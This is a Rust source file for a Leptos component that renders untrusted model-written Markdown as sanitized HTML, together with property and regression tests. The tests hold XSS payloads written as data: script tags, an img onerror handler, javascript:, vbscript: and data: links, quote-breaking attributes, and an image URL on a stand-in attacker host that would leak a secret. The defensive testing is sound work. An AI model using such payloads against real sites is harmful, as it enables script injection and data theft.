//! Renders Markdown as HTML, identically on the server and in the browser. Model output is untrusted (field note 42): HTML is
//! escaped, links are limited to a few schemes, images are never loaded, and no style attribute is emitted.

use leptos::prelude::*;
use pulldown_cmark::{Alignment, CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};

/// Renders a message's Markdown.
#[component]
pub fn Markdown(
    /// Markdown source; rendered again whenever it changes.
    #[prop(into)]
    text: Signal<String>,
) -> impl IntoView {
    view! { <div class="markdown" inner_html=move || to_html(&text.read())></div> }
}

/// Returns whether a URL has one of the schemes allowed in links: `https`, `http` or `mailto`.
fn is_safe(url: &str) -> bool {
    let url = url.trim().to_ascii_lowercase();
    ["https://", "http://", "mailto:"].iter().any(|scheme| url.starts_with(scheme))
}

fn escape(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// Renders Markdown as HTML that can't load resources, run scripts or change styles.
#[must_use]
pub fn to_html(source: &str) -> String {
    let parser =
        Parser::new_ext(source, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS);
    let mut renderer = Drawing::default();
    let mut out = String::with_capacity(source.len() * 3 / 2);
    html::push_html(&mut out, parser.filter_map(|event| renderer.event(event)));
    out
}

/// State that is kept between parser events.
#[derive(Default)]
struct Drawing {
    alignments: Vec<Alignment>,
    column: usize,
    in_head: bool,
    /// For each open link, whether it is rendered as a link.
    links: Vec<bool>,
    in_image: usize,
}

impl Drawing {
    fn event<'a>(&mut self, event: Event<'a>) -> Option<Event<'a>> {
        let raw = |text: &'static str| Some(Event::Html(CowStr::Borrowed(text)));
        match event {
            Event::Html(text) | Event::InlineHtml(text) => Some(Event::Text(text)),
            // Loading an image could send parts of the conversation to its server, so only the alternative text is shown.
            Event::Start(Tag::Image { .. }) => {
                self.in_image += 1;
                Some(Event::Text("[image: ".into()))
            }
            Event::End(TagEnd::Image) => {
                self.in_image -= 1;
                Some(Event::Text("]".into()))
            }
            Event::Start(Tag::Link { dest_url, .. }) => {
                let keep = is_safe(&dest_url) && self.in_image == 0;
                self.links.push(keep);
                keep.then(|| {
                    let open = format!(
                        r#"<a href="{}" target="_blank" rel="noopener noreferrer nofollow">"#,
                        escape(&dest_url)
                    );
                    Event::InlineHtml(open.into())
                })
            }
            Event::End(TagEnd::Link) => self.links.pop()?.then_some(Event::InlineHtml("</a>".into())),
            Event::Start(Tag::CodeBlock(kind)) => {
                let language = match &kind {
                    CodeBlockKind::Fenced(info) => info.split([' ', ',']).next().unwrap_or("").to_owned(),
                    CodeBlockKind::Indented => String::new(),
                };
                let label = if language.is_empty() { "text" } else { &language };
                let open = format!(
                    r#"<figure class="code"><figcaption><span>{}</span><button type="button" class="quiet small" data-copy>Copy</button></figcaption><pre tabindex="0"><code>"#,
                    escape(label)
                );
                Some(Event::Html(open.into()))
            }
            Event::End(TagEnd::CodeBlock) => raw("</code></pre></figure>\n"),
            // pulldown-cmark aligns cells with style attributes, which the Content-Security-Policy forbids, so classes are used instead.
            Event::Start(Tag::Table(alignments)) => {
                self.alignments = alignments;
                raw(r#"<div class="table-scroll" tabindex="0"><table>"#)
            }
            Event::End(TagEnd::Table) => raw("</tbody></table></div>\n"),
            Event::Start(Tag::TableHead) => {
                (self.column, self.in_head) = (0, true);
                raw("<thead><tr>")
            }
            Event::End(TagEnd::TableHead) => {
                self.in_head = false;
                raw("</tr></thead><tbody>")
            }
            Event::Start(Tag::TableRow) => {
                self.column = 0;
                raw("<tr>")
            }
            Event::End(TagEnd::TableRow) => raw("</tr>"),
            Event::Start(Tag::TableCell) => {
                let alignment = self.alignments.get(self.column).copied().unwrap_or(Alignment::None);
                self.column += 1;
                raw(match (self.in_head, alignment) {
                    (true, Alignment::Right) => r#"<th class="end">"#,
                    (true, Alignment::Center) => r#"<th class="center">"#,
                    (true, _) => "<th>",
                    (false, Alignment::Right) => r#"<td class="end">"#,
                    (false, Alignment::Center) => r#"<td class="center">"#,
                    (false, _) => "<td>",
                })
            }
            Event::End(TagEnd::TableCell) => raw(if self.in_head { "</th>" } else { "</td>" }),
            other => Some(other),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::to_html;
    use proptest::prelude::*;

    const TAGS: &str = "p h1 h2 h3 h4 h5 h6 em strong del code pre figure figcaption span button div table thead tbody tr th td a ul ol li \
                        blockquote hr br input";
    const ATTRIBUTES: &str = "class type data-copy tabindex href target rel start disabled checked";

    /// Returns what an element in the HTML has that no rendered message may have. Text is escaped, so each `<` opens a tag.
    fn forbidden(html: &str) -> Option<String> {
        for part in html.split('<').skip(1) {
            let Some((tag, _)) = part.split_once('>') else { return Some(format!("unclosed {part:?}")) };
            // Every second piece between quotation marks is a value.
            let pieces: Vec<&str> = tag.split('"').collect();
            let names: String = pieces.iter().step_by(2).map(|piece| piece.replace(['=', '/'], " ")).collect();
            let mut names = names.split_whitespace();
            let name = names.next().unwrap_or_default();
            if !TAGS.split_whitespace().any(|known| known == name) {
                return Some(format!("tag {name:?}"));
            }
            if let Some(other) = names.find(|name| !ATTRIBUTES.split_whitespace().any(|known| known == *name)) {
                return Some(format!("attribute {other:?}"));
            }
            let address = tag.split_once("href=\"").map(|(_, rest)| rest.trim().to_ascii_lowercase());
            if let Some(address) = address
                && !["http://", "https://", "mailto:"].iter().any(|scheme| address.starts_with(scheme))
            {
                return Some(format!("address {address:?}"));
            }
        }
        None
    }

    proptest! {
        /// Field note 42, for any bytes and for text that is made of Markdown and HTML.
        #[test]
        fn no_text_renders_more_than_known_tags(
            bytes in proptest::collection::vec(any::<u8>(), 0..300),
            parts in proptest::collection::vec(
                "(\\PC|\n|\\[x\\]|\\(|\\)|!\\[|\\]\\(javascript:|\\]\\(https://a.b/|<script|<img src=x |onerror=|style=|\"|'|>|<|&|\\||\\|-:\\||```|`|\\*\\*|_|~~|#|- |1\\. |    )",
                0..60,
            ),
        ) {
            for text in [String::from_utf8_lossy(&bytes).into_owned(), parts.concat()] {
                let html = to_html(&text);
                prop_assert_eq!(forbidden(&html), None, "{:?} became {}", text, html);
            }
        }
    }

    /// Regression test for field note 42.
    #[test]
    fn untrusted_markdown_cannot_load_run_or_restyle() {
        for (source, never) in [
            ("<script>alert(1)</script>", "<script"),
            ("hi <img src=x onerror=alert(1)>", "<img"),
            ("![words](https://evil.example/?q=secret)", "evil.example"),
            ("[![x](https://evil.example/a.png)](https://fine.example)", "evil.example"),
            ("[a](javascript:alert(1))", "javascript:"),
            ("[a](  JaVaScRiPt:alert(1))", "href"),
            ("[a](data:text/html,x)", "data:"),
            ("<a href='vbscript:x'>a</a>", "<a "),
            ("|a|\n|-:|\n|1|", "style="),
            ("```\"><script>\nx\n```", "<script"),
            ("[a](https://x.example/\"onmouseover=\"y)", "\"onmouseover"),
        ] {
            let html = to_html(source);
            assert!(!html.contains(never), "{source} → {html}");
        }
    }

    #[test]
    fn tables_code_and_links_are_rendered() {
        let html = to_html("|a|b|\n|---|--:|\n|1|2|\n\n```rust\nfn f() {}\n```\n\n[x](https://example.com)");
        for part in [
            r#"<th class="end">b</th>"#,
            r#"<td class="end">2</td>"#,
            "<span>rust</span>",
            "fn f() {}",
            r#"<a href="https://example.com" target="_blank""#,
        ] {
            assert!(html.contains(part), "{part} in {html}");
        }
        assert_eq!(to_html("1 < 2 & <b>"), "<p>1 &lt; 2 &amp; &lt;b&gt;</p>\n");
    }
}
